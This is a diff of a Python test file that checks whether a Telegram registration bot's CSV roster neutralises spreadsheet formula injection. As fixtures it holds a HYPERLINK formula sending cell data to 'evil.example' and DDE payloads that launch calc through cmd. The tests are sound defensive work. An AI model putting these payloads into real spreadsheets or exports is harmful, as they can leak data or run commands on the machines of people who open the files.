@@ -27,8 +27,16 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&E3,"Cliquez ici")'
 COMMAND = "+cmd|' /C calc'!A0"
 ATTACKS = (HYPERLINK, COMMAND, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
 SALMA, ATTACKER = User(7501, "Salma"), User(7502, "Mallory")
-HEADER_FR = ["Nom", "Entreprise", "Fonction", "Téléphone", "Statut", "Date d’inscription",
-             "Date de confirmation", "Date du désistement"]
+HEADER_FR = [
+    "Nom",
+    "Entreprise",
+    "Fonction",
+    "Téléphone",
+    "Statut",
+    "Date d’inscription",
+    "Date de confirmation",
+    "Date du désistement",
+]
 
 
 def cells(content: bytes) -> list[list[str]]:
@@ -61,7 +69,8 @@ def _registered_attackers(db: Database) -> None:
 
 
 async def test_a_formula_typed_as_a_name_on_telegram_is_text_in_the_coordinators_roster(
-        programme: Database, bot_api: FakeBotAPI, telegram_chat: Callable) -> None:
+    programme: Database, bot_api: FakeBotAPI, telegram_chat: Callable
+) -> None:
     mallory = telegram_chat(ATTACKER)
     await mallory.says("/start")
     await mallory.presses("Français")
@@ -89,24 +98,28 @@ async def test_a_formula_typed_as_a_name_on_telegram_is_text_in_the_coordinators
     assert {row[1] for row in table[1:]} == {"'" + COMMAND}
     assert "'+212612345601" in {row[3] for row in table[1:]}  # still reads as a phone number
     assert {row[4] for row in table[1:]} == {"inscription enregistrée"}
-    assert all(len(row[5]) == len("29/11/2026 09:00") and row[5][2] == "/"
-               for row in table[1:])  # local day/month/year, as French Excel reads a date
+    assert all(
+        len(row[5]) == len("29/11/2026 09:00") and row[5][2] == "/" for row in table[1:]
+    )  # local day/month/year, as French Excel reads a date
 
 
 def test_the_cli_roster_is_the_same_neutralised_document(
-        run: Run, programme: Database, tmp_path: Path) -> None:
+    run: Run, programme: Database, tmp_path: Path
+) -> None:
     _registered_attackers(programme)
     printed = run("roster", "mig-2027-01", "--csv")
     assert printed.exit_code == 0, printed.output
     table = cells(printed.output.encode("utf-8"))
     assert table[0] == HEADER_FR and no_formula(table) and len(table) == 1 + len(ATTACKS)
-    english = cells(run("roster", "mig-2027-01", "--csv", "--language", "en"
-                        ).output.encode("utf-8"))
+    english = cells(
+        run("roster", "mig-2027-01", "--csv", "--language", "en").output.encode("utf-8")
+    )
     assert english[0][:2] == ["Name", "Company"] and no_formula(english)
 
 
 def test_a_roster_written_to_a_file_is_private_whatever_the_umask(
-        run: Run, programme: Database, tmp_path: Path) -> None:
+    run: Run, programme: Database, tmp_path: Path
+) -> None:
     _registered_attackers(programme)
     target = tmp_path / "roster.csv"
     previous = os.umask(0o022)
